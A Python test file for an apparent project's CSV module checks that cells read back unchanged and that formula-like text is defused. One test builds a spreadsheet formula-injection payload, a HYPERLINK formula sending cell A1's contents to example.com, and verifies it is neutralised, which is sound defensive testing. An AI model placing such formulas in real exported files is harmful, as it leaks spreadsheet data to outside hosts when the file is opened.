"""CSV cells: what a program reads back, and what a spreadsheet makes of it."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from voucherd.sheets.csv_text import quoted, safe

_ANY = st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00")


def read_back(cell: str) -> str:
    """The cell as a reader of RFC 4180 sees it, between two others."""
    ((_, found, _),) = csv.reader(io.StringIO(f"1,{cell},2\r\n", newline=""), strict=True)
    return found


@given(st.text(_ANY))
def test_a_quoted_cell_is_read_back_letter_for_letter(text: str) -> None:
    """OP-56: a code that changes on its way is worth nothing."""
    assert read_back(quoted(text)) == text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_a_text_that_looks_like_a_formula_is_made_harmless(start: str) -> None:
    """OP-60: whoever writes a reference must not run anything on the machine that opens the file."""
    text = start + 'HYPERLINK("http://example.com?"&A1)'
    assert read_back(safe(text)) == "'" + text


@given(st.text(_ANY, min_size=1).filter(lambda text: text.lstrip("'")[:1] not in tuple("=+-@\t\r\n＝＋－＠")))
def test_any_other_text_stays_as_it_is(text: str) -> None:
    """OP-60: an apostrophe only where it is needed, or where one that is there would be taken for ours; no text is an
    empty cell.
    """
    assert read_back(safe(text)) == text
    assert (safe(None), safe("")) == ("", '""')
